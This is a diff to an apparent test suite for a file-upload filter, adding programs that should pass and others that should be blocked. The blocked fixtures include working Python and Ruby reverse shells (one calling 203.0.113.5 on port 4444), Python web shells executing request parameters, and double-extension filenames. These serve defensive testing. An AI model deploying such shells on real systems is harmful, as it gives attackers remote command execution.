@@ -105,6 +105,33 @@ describe('file_upload', () => {
     expect(upload('filename="a.dat"', content, type)).toBe('pass');
   });
 
+  test.each([
+    ['homework.py', 'import sys\nprint(sum(int(x) for x in open(sys.argv[1])))'],
+    ['deploy.py', "import subprocess\nsubprocess.run(['ls', '-l'])"],
+    [
+      'client.py',
+      'import socket\ns = socket.create_connection(("example.com", 80))\ns.sendall(b"GET / HTTP/1.0")',
+    ],
+    ['model.rb', 'class User < ApplicationRecord\n  def exec(name) = where(name:)\nend'],
+  ])('passes the text of a program that waits for nobody: %s', (name, content) => {
+    expect(upload(`filename="${name}"`, content)).toBe('pass');
+  });
+
+  test.each([
+    ['x.py', 'import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")'],
+    [
+      'x.py',
+      'import os,cgi\nform=cgi.FieldStorage()\nprint("Content-type: text/html")\nos.system(form["c"].value)',
+    ],
+    ['app.py', 'import os\n@app.route("/c")\ndef c(): return os.popen(request.args.get("c")).read()'],
+    ['x.rb', 'require "socket";f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)'],
+    ['x.py;.jpg', 'print(1)'],
+    ['x.py.png', 'print(1)'],
+    ['x.pl', 'print 1'],
+  ])('blocks a program that runs what it is told, or hides its name: %s', (name, content) => {
+    expect(upload(`filename="${name}"`, content)).toBe('block');
+  });
+
   test('two names for one file are one too many', () => {
     expect(upload('filename="a.jpg"; filename="b.jpg"', png)).toBe('block');
     expect(upload(`filename="a.jpg"; filename*=UTF-8''a.jpg`, png)).toBe('pass');
